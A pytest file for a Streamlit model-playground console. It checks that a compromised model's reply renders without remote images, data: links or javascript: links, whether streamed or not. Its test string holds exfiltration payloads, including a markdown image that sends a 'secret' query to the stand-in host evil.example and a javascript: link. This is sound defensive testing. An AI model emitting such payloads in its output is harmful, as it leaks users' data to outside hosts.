"""The playground renders a hostile reply without remote images or unsafe links, streamed or not."""

from __future__ import annotations

import json
import re
import urllib.request

import pytest
from markdown_it import MarkdownIt

from pages import widgets

HOSTILE = ("Summary ![pixel](https://evil.example/p.png?k=secret) and [open](data:text/html,hi) "
           "<img src=https://evil.example/i.png> [ref][1] and [docs](https://docs.example/x)\n\n"
           "[1]: javascript:alert(1)")


def rendered(md: str) -> str:
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # Streamlit keeps data: links
    return parser.render(md)


def echo_next_reply() -> None:
    """Script the console's simulator to answer the next call with the prompt itself (a compromised model)."""
    req = urllib.request.Request(widgets.client().base_url + "/_sim/faults", method="POST",
                                 data=json.dumps({"faults": ["echo"]}).encode(),
                                 headers={"content-type": "application/json"})
    with urllib.request.urlopen(req, timeout=10) as resp:
        assert json.load(resp) == {"pending": 1}


def chat_bodies(at) -> list[str]:
    return [m.value for msg in at.chat_message for m in msg.markdown]


def assert_safe(body: str) -> None:
    page = rendered(body)
    assert not re.search(r"<img\b", page), page
    # the image's http(s) URL is shown as a link (a click loads it), the data: and javascript: ones not at all
    assert re.findall(r'href="([^"]*)"', page) == ["https://evil.example/p.png?k=secret", "https://docs.example/x"]


@pytest.mark.parametrize("stream", [True, False])
def test_a_hostile_reply_renders_no_image_and_no_unsafe_link(console, stream):
    at = console(user="bob")
    at.toggle(key="pg_preview").set_value(False).run()
    at.toggle(key="pg_stream").set_value(stream).run()
    echo_next_reply()
    at.chat_input[0].set_value(HOSTILE).run()
    assert not at.exception, at.exception
    bodies = chat_bodies(at)
    assert len(bodies) == 2  # the prompt and the reply
    for body in bodies:
        assert_safe(body)
        assert "image: pixel" in body and "open" in body
    at.run()  # the history is drawn again from the stored turns
    assert len(chat_bodies(at)) == 2
    for body in chat_bodies(at):
        assert_safe(body)
    md = next(b for b in at.get("download_button") if b.proto.label == "Export Markdown")
    assert md  # the export's own safety is covered in tests/unit/test_render.py
